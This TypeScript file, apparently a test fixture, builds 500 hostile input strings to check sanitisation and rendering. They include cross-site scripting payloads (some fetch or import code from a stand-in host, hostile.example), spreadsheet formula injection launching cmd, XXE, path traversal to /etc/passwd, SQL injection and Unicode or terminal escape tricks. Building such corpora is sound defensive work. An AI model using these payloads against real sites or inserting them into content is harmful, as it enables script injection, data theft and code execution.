// Five hundred texts that try to be more than text: markup, styles, references, direction marks, formulas, escapes. All are harmless in themselves.

const CALLS = ['ran()', 'top.ran()', "alert('x')", "fetch('http://hostile.example/')", "import('http://hostile.example/x.js')"];
const ADDRESS = 'http://hostile.example/x';

const WITH_CALL: readonly ((call: string) => string)[] = [
  c => `<script>${c}</script>`, c => `</script><script>${c}</script>`, c => `<ScRiPt >${c}</sCrIpT>`, c => `<script/x>${c}</script>`, c => `<<script>${c}//<</script>`, c => `<script\n>${c}</script\n>`,
  c => `<img src=x onerror="${c}">`, c => `<img src=x onerror=${c}//`, c => `"><img src=x onerror="${c}">`, c => `'><img src=x onerror='${c}'>`, c => `<img/src=x/onerror=${c}>`, c => `<image src=x onerror="${c}">`,
  c => `<svg onload="${c}">`, c => `<svg><script>${c}</script></svg>`, c => `<svg><animate onbegin="${c}" attributeName=x dur=1s>`, c => `<svg><foreignObject><body onload="${c}"></foreignObject></svg>`, c => `<svg><a xlink:href="javascript:${c}"><text>x</text></a></svg>`, c => `<svg><use href="data:image/svg+xml,<svg id=x onload=${c}>#x"/></svg>`,
  c => `<math><mtext></mtext><script>${c}</script></math>`, c => `<math href="javascript:${c}">x</math>`, c => `<math><annotation-xml encoding="text/html"><script>${c}</script></annotation-xml></math>`,
  c => `<iframe src="javascript:${c}"></iframe>`, c => `<iframe srcdoc="<script>${c}</script>"></iframe>`, c => `<object data="javascript:${c}"></object>`, c => `<embed src="javascript:${c}">`,
  c => `<a href="javascript:${c}">x</a>`, c => `<a href="java\tscript:${c}">x</a>`, c => `<a href="&#106;avascript:${c}">x</a>`, c => `javascript:${c}`, c => `data:text/html,<script>${c}</script>`,
  c => `<body onload="${c}">`, c => `<input autofocus onfocus="${c}">`, c => `<select autofocus onfocus="${c}">`, c => `<textarea autofocus onfocus="${c}">`, c => `<details open ontoggle="${c}">x</details>`, c => `<video><source onerror="${c}">`, c => `<audio src=x onerror="${c}">`, c => `<marquee onstart="${c}">x</marquee>`,
  c => `<form action="javascript:${c}"><input type=submit>`, c => `<button formaction="javascript:${c}">x</button>`, c => `<isindex action="javascript:${c}">`, c => `<div style="width:expression(${c})">`, c => `<div onmouseover="${c}" style="position:fixed;inset:0">x</div>`,
  c => `--><script>${c}</script><!--`, c => `]]><script>${c}</script>`, c => `<![CDATA[<script>${c}</script>]]>`, c => `<!--<script>${c}</script>`, c => `<template><script>${c}</script></template>`, c => `<noscript><p title="</noscript><script>${c}</script>">`,
  c => `<title></title><script>${c}</script>`, c => `</title><script>${c}</script>`, c => `</style><script>${c}</script>`, c => `</textarea><script>${c}</script>`, c => `</template><script>${c}</script>`, c => `&lt;script&gt;${c}&lt;/script&gt;`, c => `&#60;script&#62;${c}&#60;/script&#62;`, c => `\\u003cscript\\u003e${c}\\u003c/script\\u003e`, c => `\${${c}}`, c => `{{constructor.constructor('${c.replaceAll("'", '')}')()}}`, c => `';${c};'`, c => `";${c};"`, c => `\`;${c};\``, c => `\u2028${c}`,
];

const WITHOUT: readonly string[] = [
  `<img src="${ADDRESS}">`, `<link rel=stylesheet href="${ADDRESS}">`, `<link rel=prefetch href="${ADDRESS}">`, `<link rel=dns-prefetch href="//hostile.example">`, `<meta http-equiv=refresh content="0;url=${ADDRESS}">`, `<base href="${ADDRESS}">`, `<style>@import "${ADDRESS}";</style>`, `<style>body{background:url(${ADDRESS})}</style>`, `<div style="background:url(${ADDRESS})">`, `<svg><image href="${ADDRESS}"/></svg>`, `<svg><feImage href="${ADDRESS}"/></svg>`, `<iframe src="${ADDRESS}"></iframe>`, `<object data="${ADDRESS}"></object>`, `<embed src="${ADDRESS}">`, `<video poster="${ADDRESS}" src="${ADDRESS}">`, `<audio src="${ADDRESS}">`, `<form action="${ADDRESS}"><input></form>`, `<a ping="${ADDRESS}" href="#">x</a>`, `<input type=image src="${ADDRESS}">`, `<body background="${ADDRESS}">`, `<table background="${ADDRESS}">`, `<frameset><frame src="${ADDRESS}"></frameset>`, `<html manifest="${ADDRESS}">`, `<portal src="${ADDRESS}">`, `url(${ADDRESS})`, `<style>*{display:none!important}</style>`, `</div></main></body></html>`, `<plaintext>`, `<xmp>`, `<!--`, `<![CDATA[`, `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "${ADDRESS}">]>&e;`,
  '=1+1', '=HYPERLINK("http://hostile.example","x")', '+1', '-1+2', '@SUM(1)', '=cmd|\' /C calc\'!A0', '\t=1', '\r=1', '\u001b[31mred\u001b[0m', '\u001b]0;title\u0007', '\u001b]8;;http://hostile.example\u0007x', '\u0000nul\u0000', '\u0008\u0008\u0008', '\u202eevil\u202c', '\u2066iso\u2069', '\u200f\u200e', '\u061c', 'e' + '\u0301'.repeat(300), '\ud800', '\udc00\ud800', '\ufeffmark', '\ufffe', '\u{1f468}\u200d\u{1f469}\u200d\u{1f467}', 'a'.repeat(5000), 'mot '.repeat(800), '(('.repeat(400), '«'.repeat(400), '"'.repeat(400), '&'.repeat(400), '<'.repeat(400), '%00%0a%0d', '../../../../etc/passwd', 'file:///etc/passwd', 'C:\\con\\con', "'; DROP TABLE documents; --", '__proto__', 'constructor', 'toString', 'hasOwnProperty', '{"a":1}', '[object Object]', 'null', 'undefined', 'NaN', '$& $1 $$ $`', '%s %d %n', '{0} {}', '<%= 7*7 %>', '#{7*7}', '{{7*7}}', '\\', '\\"', "\\'", '\\u0000',
];

function fill(): readonly string[] {
  const all = [...CALLS.flatMap(call => WITH_CALL.map(make => make(call))), ...WITHOUT];
  // The rest: two of them woven into one.
  for (let k = 0; all.length < 500; k++) all.push(`${WITHOUT[(k * 7) % WITHOUT.length]!}${WITH_CALL[(k * 5) % WITH_CALL.length]!('ran()')}`);
  return all.slice(0, 500);
}

export const HOSTILE = fill();
